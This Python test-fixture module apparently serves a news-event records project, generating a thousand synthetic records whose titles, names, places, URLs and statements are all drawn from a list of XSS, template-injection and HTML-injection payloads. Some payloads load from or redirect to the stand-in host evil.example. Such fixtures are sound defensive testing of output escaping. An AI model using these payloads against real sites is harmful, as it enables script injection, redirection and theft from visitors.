"""A thousand texts that would like to be obeyed: every field that comes from outside holds something of the kind."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.threads.synthetic import Draft
from verbale.record import Record

COUNT = 1_000
# Each would set ``window.obeyed``, open a dialog, or ask another machine, if it were anything but text.
PAYLOADS = (
    "<script>window.obeyed=1</script>",
    '<img src=x onerror="window.obeyed=1">',
    "<svg/onload=window.obeyed=1>",
    '"><script>window.obeyed=1</script>',
    "' onmouseover='window.obeyed=1' autofocus onfocus='window.obeyed=1",
    "javascript:window.obeyed=1",
    "</title></textarea></style></script><script>window.obeyed=1</script>",
    '<iframe srcdoc="<script>parent.obeyed=1</script>"></iframe>',
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{% endfor %}",
    "${window.obeyed=1}`${alert(1)}`",
    '<a href="javascript:window.obeyed=1" hx-get="/logout" hx-trigger="load">x</a>',
    '<div hx-on:load="window.obeyed=1" hx-get="http://evil.example/" hx-trigger="load"></div>',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/'</style>",
    "<base href=http://evil.example/><form action=http://evil.example/><input name=csrf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.obeyed=1>",
    "&lt;script&gt;window.obeyed=1&lt;/script&gt;&#x3c;script&#x3e;",
    "\u202e\u2066<script>window.obeyed=1</script>\u2069",
    "--><!--<script>window.obeyed=1</script>",
    "]]><script>window.obeyed=1</script><![CDATA[",
    "\x1b[2J\x07<script>window.obeyed=1</script>",
    "%3Cscript%3Ewindow.obeyed=1%3C/script%3E?next=//evil.example",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "\ufeff<ScRiPt\n>window.obeyed=1</ScRiPt\n>",
)
ADDRESSES = (
    "javascript:window.obeyed=1",
    "data:text/html,<script>window.obeyed=1</script>",
    'https://news.example/a" onclick="window.obeyed=1',
    "https://news.example/<script>window.obeyed=1</script>",
    "vbscript:x",
    "//evil.example/x",
    "https://user:pass@news.example:99999/?a=b&c=<d>#\"'",
)


def hostile(count: int = COUNT, seed: int = 11) -> Iterator[Record]:
    """Records whose texts, titles, outlets, names, places, conditions and addresses are hostile; the same each time."""
    chance = random.Random(seed)

    def bad() -> str:
        parts = [chance.choice(PAYLOADS) for _ in range(chance.randrange(1, 3))]
        if chance.random() < 0.3:
            at = chance.randrange(len(parts[0]))
            parts[0] = parts[0][:at] + chance.choice("<>\"'&`=\u0000\u2028/\\ ").replace("\u0000", "") + parts[0][at:]
        return " ".join(parts)

    for number in range(count):
        day = f"2024-{1 + number % 12:02}-{1 + number % 28:02}"
        draft = Draft(f"h{number}-{bad()[:60]}", day, bad(), publisher=bad())
        one = draft.actor(f"gov:x{number % 40}", name=bad(), country=chance.choice((None, "MDA", "KGZ")), sector="GOV")
        two = draft.actor(f"person:{bad()[:40]}", "person", name=bad(), of=one)
        given = draft.proposal("ceasefire", by=(one,), duration="P7D", put_forward=day, words=bad())
        draft.position(two, given, chance.choice(("accepts", "rejects")), day, words=bad())
        draft.time(day, day)
        draft.event(
            "CONSULT", "meeting", source=(one,), target=(two,), time="t1", place=draft.place(bad()), words=bad()
        )
        where = draft.place(bad(), "MDA", (47.0, 28.9))
        draft.event("ASSAULT", "shelling", source=(one,), time="t1", place=where, words=bad())
        draft.statement(two, bad())
        record = draft.record()
        document = record.document.model_copy(
            update={
                "title": bad(),
                "url": f"{chance.choice(ADDRESSES)}{number}",
                "kind": chance.choice(("news", "readout")),
            }
        )
        yield record.model_copy(update={"document": document})
